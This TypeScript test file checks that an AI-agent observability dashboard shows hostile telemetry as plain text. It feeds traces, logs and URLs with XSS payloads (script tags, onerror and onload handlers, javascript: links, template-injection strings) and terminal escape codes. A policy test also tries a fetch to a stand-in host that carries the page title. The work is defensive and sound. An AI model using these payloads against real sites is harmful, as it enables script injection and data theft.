/** Content that wants to run, to break the view or to mislead: it is shown as text, wherever programs can put it. */
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { hasCount, type ShownPage, startPage, WITHOUT_BROWSER } from "./harness.ts";

const TRACE_ID = "e".repeat(32);
const PLAIN_TRACE_ID = "d".repeat(32);
const SCRIPTS = [
  `<script>window.ran=1</script>`,
  `<img src=x onerror="window.ran=1">`,
  `"><svg onload=window.ran=1>`,
  `javascript:window.ran=1`,
  `[a](javascript:window.ran=1)`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `\${window.ran=1}{{constructor.constructor('window.ran=1')()}}`,
  `<style>*{display:none}</style>`,
];
const ODD = [
  "\u202egnp.exe\u202c right to left",
  "مرحبا بالعالم",
  "👩‍👩‍👧‍👦🏳️‍🌈 e\u0301\u0301\u0301\u0301",
  "\u001b[31mred\u001b[0m \u001b]8;;http://evil.test\u0007link\u001b]8;;\u0007\u001b[2J",
  "\u0000\u0007\ufffd\ud83d",
  "line\r\nbreak\u2028and\u2029more\ttab",
  "x".repeat(20_000),
  "__proto__",
  "constructor",
];
const EVIL = [...SCRIPTS, ...ODD].join(" | ");
const HUGE = "0123456789".repeat(1024 * 1024);

type Value = string | number;
const attributes = (given: Readonly<Record<string, Value>>) =>
  Object.entries(given).map(([key, value]) => ({
    key,
    value: typeof value === "number" ? { intValue: String(value) } : { stringValue: value },
  }));
const nanos = (ms: number): string => `${BigInt(Math.floor(ms)) * 1_000_000n}`;

type SpanOptions = {
  readonly traceId: string;
  readonly index: number;
  readonly parent?: number;
  readonly name: string;
  readonly given: Readonly<Record<string, Value>>;
};
const spanId = (index: number): string => (index + 1).toString(16).padStart(16, "0");

function spanOf({ traceId, index, parent, name, given }: SpanOptions, nowMs: number): object {
  return {
    traceId,
    spanId: spanId(index),
    ...(parent !== undefined && { parentSpanId: spanId(parent) }),
    name,
    kind: 1,
    startTimeUnixNano: nanos(nowMs - 5000 + index * 10),
    endTimeUnixNano: nanos(nowMs - 1000 - index * 10),
    attributes: attributes(given),
    events: [{ name: EVIL, timeUnixNano: nanos(nowMs - 2000), attributes: attributes({ "exception.message": EVIL }) }],
    status: { code: 2, message: EVIL },
  };
}

const messages = (text: string): string => JSON.stringify([{ role: "user", parts: [{ type: "text", content: text }] }]);
const MODEL_CALL = {
  "gen_ai.operation.name": "chat",
  "gen_ai.provider.name": EVIL.slice(0, 300),
  "gen_ai.request.model": SCRIPTS[0] as string,
  "gen_ai.agent.name": SCRIPTS[1] as string,
  "gen_ai.usage.input_tokens": 10,
  "gen_ai.usage.output_tokens": 5,
  "gen_ai.input.messages": messages(EVIL),
  "gen_ai.output.messages": messages(EVIL),
  "gen_ai.system_instructions": messages(EVIL),
  "session.id": SCRIPTS[2] as string,
  "user.id": SCRIPTS[3] as string,
};

function requests(nowMs: number): readonly (readonly [signal: string, body: object])[] {
  const resource = { attributes: attributes({ "service.name": SCRIPTS[0] as string, [EVIL.slice(0, 200)]: EVIL }) };
  const scope = { name: EVIL.slice(0, 500) };
  const spans = (given: readonly SpanOptions[]) => ({
    resourceSpans: [{ resource, scopeSpans: [{ scope, spans: given.map((one) => spanOf(one, nowMs)) }] }],
  });
  const agent = { "gen_ai.operation.name": "invoke_agent", "gen_ai.agent.name": SCRIPTS[1] as string };
  const tool = {
    "gen_ai.operation.name": "execute_tool",
    "gen_ai.tool.name": SCRIPTS[2] as string,
    "gen_ai.tool.call.arguments": EVIL,
    "gen_ai.tool.call.result": EVIL,
    "error.type": SCRIPTS[0] as string,
  };
  const label = attributes({ agent: SCRIPTS[1] as string, tool: SCRIPTS[2] as string, status: "error" });
  const point = { attributes: label, startTimeUnixNano: nanos(nowMs - 60_000), timeUnixNano: nanos(nowMs), asInt: "7" };
  const sum = { aggregationTemporality: 2, isMonotonic: true, dataPoints: [point] };
  return [
    [
      "traces",
      spans([
        { traceId: TRACE_ID, index: 0, name: EVIL, given: agent },
        { traceId: TRACE_ID, index: 1, parent: 0, name: SCRIPTS[1] as string, given: MODEL_CALL },
        {
          traceId: TRACE_ID,
          index: 2,
          parent: 1,
          name: SCRIPTS[0] as string,
          given: { ...tool, [EVIL.slice(0, 300)]: EVIL },
        },
        // A span that is its own parent, and one whose parent is nowhere.
        { traceId: TRACE_ID, index: 3, parent: 3, name: "its own parent", given: {} },
        { traceId: TRACE_ID, index: 4, parent: 99, name: "an orphan", given: {} },
      ]),
    ],
    [
      "traces",
      spans([
        {
          traceId: PLAIN_TRACE_ID,
          index: 0,
          name: "huge",
          given: {
            huge: HUGE,
            "gen_ai.operation.name": "chat",
            "gen_ai.input.messages": messages(HUGE.slice(0, 1_000_000)),
          },
        },
      ]),
    ],
    [
      "metrics",
      {
        resourceMetrics: [
          {
            resource,
            scopeMetrics: [
              {
                scope,
                metrics: [
                  ...["agent_requests_total", "agent_tool_calls_total", "agent_tool_errors_total"].map((name) => ({
                    name,
                    sum,
                  })),
                  { name: "agent_observatory_up", gauge: { dataPoints: [point] } },
                ],
              },
            ],
          },
        ],
      },
    ],
    [
      "logs",
      {
        resourceLogs: [
          {
            resource,
            scopeLogs: [
              {
                scope,
                logRecords: [...SCRIPTS, ...ODD, EVIL, JSON.stringify({ level: "error", msg: EVIL })].map(
                  (line, index) => ({
                    timeUnixNano: nanos(nowMs - 1000 - index),
                    severityNumber: 17,
                    severityText: "ERROR",
                    body: { stringValue: line },
                    traceId: TRACE_ID,
                    spanId: spanId(1),
                    attributes: attributes({
                      "exception.type": SCRIPTS[0] as string,
                      "exception.message": EVIL,
                      "exception.stacktrace": EVIL,
                      "error.fingerprint": SCRIPTS[1] as string,
                      "session.id": SCRIPTS[2] as string,
                      [SCRIPTS[0] as string]: EVIL,
                    }),
                  }),
                ),
              },
            ],
          },
        ],
      },
    ],
  ];
}

describe("hostile content", { skip: WITHOUT_BROWSER }, () => {
  let shown: ShownPage;
  before(async () => {
    shown = await startPage({ scenario: "empty" });
    for (const [signal, body] of requests(Date.now())) {
      const url = shown.served.otlp[signal as "traces"];
      const headers = { "content-type": "application/json" };
      const { status } = await fetch(url, { method: "POST", headers, body: JSON.stringify(body) });
      assert.equal(status, 200, signal);
    }
  });
  after(() => shown?.close());

  const encoded = SCRIPTS.map(encodeURIComponent);
  const PATHS = [
    "/",
    "/traces",
    ...["waterfall", "tree", "graph", "conversation", "explain", "logs"].map((tab) => `/trace/${TRACE_ID}?tab=${tab}`),
    `/trace/${TRACE_ID}?span=${spanId(2)}`,
    `/trace/${PLAIN_TRACE_ID}?span=${spanId(0)}`,
    `/trace/${PLAIN_TRACE_ID}?tab=conversation`,
    `/compare?a=${TRACE_ID}&b=${PLAIN_TRACE_ID}`,
    "/sessions",
    `/session/${encoded[2]}`,
    "/logs",
    "/errors",
    "/cost",
    "/models",
    `/models?tool=${encoded[2]}`,
    `/models?model=${encoded[0]}`,
    "/alerts",
    "/health",
    "/d/ao-overview",
    "/d/ao-tools",
    "/d/ao-logs",
  ];

  for (const path of PATHS) {
    it(`is text at ${path.slice(0, 60)}`, async () => {
      await shown.open(path);
      await shown.page.getByRole("heading", { level: 1 }).waitFor();
      assert.equal(await shown.page.evaluate("window.ran"), undefined, "nothing ran");
      assert.equal(await shown.page.evaluate("getComputedStyle(document.body).display !== 'none'"), true);
      const injected = await shown.page.evaluate(
        `[...document.querySelectorAll("main iframe, main script, main style, main [onerror], main [onload], main a[href^='javascript']")].length`,
      );
      assert.equal(injected, 0, "no element came of a text");
      await hasCount(shown.page.getByText("This view failed"), 0, "the view stands");
      assert.deepEqual(shown.complaints, []);
    });
  }

  it("is text in the address too", async () => {
    for (const script of encoded.slice(0, 4)) {
      // Nothing of that name is there, which APIs may say with an error.
      shown.expectComplaints(/status of (?:400|404)/);
      for (const path of [
        `/traces?text=${script}&agent=${script}`,
        `/logs?query=${script}`,
        `/session/${script}`,
        `/alert/${script}`,
        `/d/${script}?var-x=${script}`,
        `/trace/${script}?tab=${script}&span=${script}`,
        `/?from=${script}&to=${script}&refresh=${script}`,
        `/errors?fingerprint=${script}#${script}`,
        `/no/${script}`,
      ]) {
        await shown.open(path);
        assert.equal(await shown.page.evaluate("window.ran"), undefined, path);
        await hasCount(shown.page.getByText("This view failed"), 0, path);
      }
    }
  });

  it("is refused by the policy where it could run all the same", async () => {
    await shown.open("/");
    shown.expectComplaints(/Content Security Policy/);
    const tried = (await shown.page.evaluate(`(async () => {
      const script = document.createElement("script");
      script.textContent = "window.ran = 1";
      document.body.append(script);
      const image = new Image();
      image.setAttribute("onerror", "window.ran = 1");
      image.src = "/none.png";
      document.body.append(image);
      const loaded = document.createElement("script");
      loaded.src = "data:text/javascript,window.ran=1";
      document.body.append(loaded);
      const frame = document.createElement("iframe");
      frame.srcdoc = "<script>parent.ran = 1</script>";
      document.body.append(frame);
      const left = await fetch("http://elsewhere.test/?" + document.title).then(() => "left", () => "stayed");
      await new Promise((resolve) => setTimeout(resolve, 200));
      return [left, String(window.ran)];
    })()`)) as string[];
    assert.deepEqual(tried, ["stayed", "undefined"]);
    shown.expectComplaints(/somewhere else: http:\/\/elsewhere\.test|status of 404 .*none\.png/);
  });
});
